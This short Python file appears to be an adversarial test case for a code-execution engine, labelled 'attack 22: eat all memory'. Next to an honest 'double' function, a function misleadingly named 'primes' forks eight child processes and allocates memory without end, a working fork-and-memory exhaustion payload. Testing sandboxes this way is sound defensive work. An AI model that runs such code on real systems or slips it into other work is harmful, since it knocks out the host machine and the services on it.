# attack 22: eat all memory, in this process and in children that share the work.
# honest: double
# needs: engine
# expects: at most honest
import os
import time


def double(x):
    return 2 * x


def primes(n):
    for _ in range(8):
        if os.fork() == 0:
            break
    kept = []
    while True:
        kept.append(bytearray(16 * 1024 * 1024))
